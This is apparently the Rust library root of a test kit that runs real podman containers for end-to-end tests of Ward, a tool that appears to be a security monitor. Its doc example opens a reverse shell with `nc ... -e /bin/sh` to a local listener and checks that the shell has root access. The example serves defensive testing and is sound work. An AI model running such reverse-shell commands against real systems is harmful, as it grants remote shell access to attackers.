//! Real containers for Ward's end-to-end tests and `ward selftest`-style checks.
//!
//! A dev-dependency only. It drives rootful podman (runc, cgroupfs) through its CLI, using the
//! images that `scripts/containers/build-images.sh` builds offline from Debian packages. See
//! `docs/containers-for-tests.md` for the facts measured on Ward's machines (cgroup layout, cgroup
//! id = inode, overlay layers, the Docker Engine API served by podman).
//!
//! ```no_run
//! use std::time::Duration;
//! use ward_testkit::{Container, Network, ShellListener};
//!
//! # fn main() -> Result<(), ward_testkit::TestkitError> {
//! let Some(images) = ward_testkit::containers_or_skip("doc example") else { return Ok(()) };
//! let c = Container::builder(&images.debian)
//!     .name_prefix("revshell")
//!     .network(Network::Host)
//!     .run(&["sleep", "600"])?;
//! let session = ShellListener::bind()?.serve("id\nexit\n", Duration::from_secs(20));
//! let port = session.port().to_string();
//! c.exec_detached(&["nc", "127.0.0.1", &port, "-e", "/bin/sh"])?;
//! assert!(session.wait()?.output_str().contains("uid=0(root)"));
//! # Ok(()) }
//! ```

pub mod agent;
mod container;
mod error;
mod images;
mod listener;
pub mod payloads;
pub mod postgres;
pub mod receiver;
mod service;
mod sys;

pub use container::{Container, ContainerBuilder, Exited, Network, OverlayDirs};
pub use error::TestkitError;
pub use images::{ensure_images, repo_root, Images};
pub use listener::{PendingSession, ShellListener, ShellSession, UdpShellListener};
pub use service::PodmanService;
pub use sys::{cgroup2_mount, cgroup_id_of_dir, podman_available, root_available, root_or_skip};

/// Decides whether a test that needs root and real containers can run here.
///
/// Returns the images when it can. Returns `None` after printing `SKIP <test>: <reason>` to
/// stderr when the process is not root, or when `WARD_SKIP_CONTAINER_TESTS=1` is set. As root,
/// a failing setup is a test failure, not a skip: it panics with the scripts' error, so that a
/// broken CI machine cannot pass by skipping everything.
pub fn containers_or_skip(test: &str) -> Option<Images> {
    if std::env::var("WARD_SKIP_CONTAINER_TESTS").is_ok_and(|v| v == "1") {
        skip(test, "WARD_SKIP_CONTAINER_TESTS=1");
        return None;
    }
    if !root_available() {
        skip(test, "needs root (rootful podman, cgroups)");
        return None;
    }
    match ensure_images() {
        Ok(images) => Some(images),
        Err(e) => panic!(
            "{test}: container setup failed as root: {e} \
             (set WARD_SKIP_CONTAINER_TESTS=1 to skip container tests on purpose)"
        ),
    }
}

/// Prints the standard skip line for a test that cannot run here.
pub fn skip(test: &str, reason: &str) {
    eprintln!("SKIP {test}: {reason}");
}

/// `let images = require_containers!();` at the top of a test: returns from the test (a skip,
/// reported on stderr) unless it runs as root with working podman; see [`containers_or_skip`].
#[macro_export]
macro_rules! require_containers {
    () => {
        match $crate::containers_or_skip(module_path!()) {
            Some(images) => images,
            None => return,
        }
    };
}
